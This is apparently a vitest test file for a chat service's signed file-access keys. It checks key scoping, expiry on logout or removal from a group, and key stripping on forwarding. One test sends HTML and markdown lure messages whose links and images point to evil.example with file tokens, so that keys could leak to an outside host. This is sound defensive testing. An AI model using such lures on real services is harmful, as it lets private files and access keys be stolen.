import { groupAdd, groupDeluser } from '@atrium/contract/chat/dialogs.ts';
import * as m from '@atrium/contract/chat/messages.ts';
import * as f from '@atrium/contract/files/files.ts';
import { logout } from '@atrium/contract/people/sessions.ts';
import sharp from 'sharp';
import { expect, test } from 'vitest';
import { anotherDevice, type TestClient, unique, world } from '#testing/world';

/** The answer for a client that does not add keys. */
async function answered(by: TestClient, path: string): Promise<string> {
  const { ret, data } = await by.raw(path, { headers: { addresses: '' } });
  expect(ret).toBe(1);
  return JSON.stringify(data).replaceAll('\\"', '"');
}

async function scene() {
  const { ada, bo, cy } = await world({ members: ['ada', 'bo', 'cy'] });
  const { id: dialog_id } = await ada.call(groupAdd, { userids: [bo.userid], chat_name: unique('G') });
  const send = async (name: string) => {
    const picture = sharp({ create: { width: 300, height: 200, channels: 3, background: '#4f5bd5' } });
    const body = new FormData();
    body.set('dialog_id', String(dialog_id));
    body.set('files', new Blob([new Uint8Array(await picture.png().toBuffer())]), name);
    const { data } = await ada.raw('dialog/msg/sendfile', { method: 'POST', body });
    return data as unknown as m.Message & { msg: f.FileMsg };
  };
  const list = (by: TestClient) => answered(by, `dialog/msg/list?dialog_id=${dialog_id}`);
  return { ada, bo, cy, dialog_id, send, list };
}

const KEYED = /\{\{RemoteURL\}\}(file\/(?!thumb)[\w-]{24}\/[^"?]+\?key=[^"&]+)/g;
const statusAt = async (by: TestClient, path: string) => (await fetch(`${by.base}/${path}`)).status;

test('the key in an address opens only that file and stays the same for a while', async () => {
  const { bo, send, list } = await scene();
  await send('one.png');
  await send('two.png');
  const [one = '', two = ''] = [...new Set([...(await list(bo)).matchAll(KEYED)].map(([, path]) => path ?? ''))];
  expect([await statusAt(bo, one), await statusAt(bo, two)]).toEqual([200, 200]);
  expect((await list(bo)).includes(one)).toBe(true);
  const key = one.split('?key=')[1] ?? '';
  expect(await statusAt(bo, `${two.split('?')[0]}?key=${key}`)).toBe(404);
  expect(await statusAt(bo, `api/dialog/msg/download?msg_id=1&key=${key}`)).toBe(403);
});

test('an external address never gets a key, however it is written', async () => {
  const { ada, bo, dialog_id, send, list } = await scene();
  const { msg } = await send('plan.png');
  const token = msg.path.split('/')[1] ?? '';
  const lures = [
    `<p><a href="https://evil.example/file/${token}/x.png">look</a></p>`,
    `<p><img src="https://evil.example/file/${token}/x.png"></p>`,
    `<p><a href="https://evil.example/?to={{RemoteURL}}file/${token}/x.png">look</a></p>`,
    `<p>https://evil.example/?to=src={{RemoteURL}}file/${token}/x.png</p>`,
    `<p>&lt;img src="{{RemoteURL}}file/${token}/x.png"&gt;</p>`,
  ];
  for (const text of lures) await ada.call(m.msgSendtext, { dialog_id, text });
  const md = [
    `[look](https://evil.example/?to=![]({{RemoteURL}}file/${token}/x.png))`,
    `https://evil.example/file/${token}/x.png`,
  ];
  for (const text of md) await ada.call(m.msgSendtext, { dialog_id, text, text_type: 'md' });
  const texts = (await list(bo)).split('"text":').slice(1);
  expect(texts.length).toBeGreaterThanOrEqual(lures.length);
  for (const text of texts) if (text.includes('evil')) expect(text.split('"userid"')[0]).not.toContain('key=');
  // No answer contains a key for more than one file.
  const { key } = await bo.call(f.fileKey, {});
  expect(await list(bo)).not.toContain(key);
});

test('a picture in a text can be fetched directly; forwarding drops the key from its address', async () => {
  const { ada, bo, cy, dialog_id, list } = await scene();
  const picture = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#4f5bd5' } })
    .png()
    .toBuffer();
  const text = `<p>see <img src="data:image/png;base64,${picture.toString('base64')}"></p>`;
  await ada.call(m.msgSendtext, { dialog_id, text });
  const src = /<img[^>]* src="\{\{RemoteURL\}\}([^"]+)"/.exec(await list(bo))?.[1] ?? '';
  expect(src).toContain('?key=');
  expect(await statusAt(bo, src)).toBe(200);

  const { id: other } = await bo.call(groupAdd, { userids: [cy.userid], chat_name: unique('G') });
  for (const address of [`{{RemoteURL}}${src}`, `http://atrium.test/${src}`]) {
    await bo.call(m.msgSendtext, { dialog_id: other, text: `<p>again <img src="${address}"></p>` });
  }
  const [, key = 'none'] = src.split('?key=');
  expect(await answered(cy, `dialog/msg/list?dialog_id=${other}`)).not.toContain(key);
});

test('the key in an address ends with its sign-in and with the right to read', async () => {
  const { ada, bo, dialog_id, send, list } = await scene();
  await send('plan.png');
  const phone = await anotherDevice(bo);
  const pathFor = async (by: TestClient) => [...(await list(by)).matchAll(KEYED)][0]?.[1] ?? '';
  const [ofPhone, ofPage] = [await pathFor(phone), await pathFor(bo)];
  expect([await statusAt(bo, ofPhone), await statusAt(bo, ofPage)]).toEqual([200, 200]);
  await phone.call(logout, {});
  expect([await statusAt(bo, ofPhone), await statusAt(bo, ofPage)]).toEqual([404, 200]);
  await ada.call(groupDeluser, { dialog_id, userids: [bo.userid] });
  expect(await statusAt(bo, ofPage)).toBe(404);
});
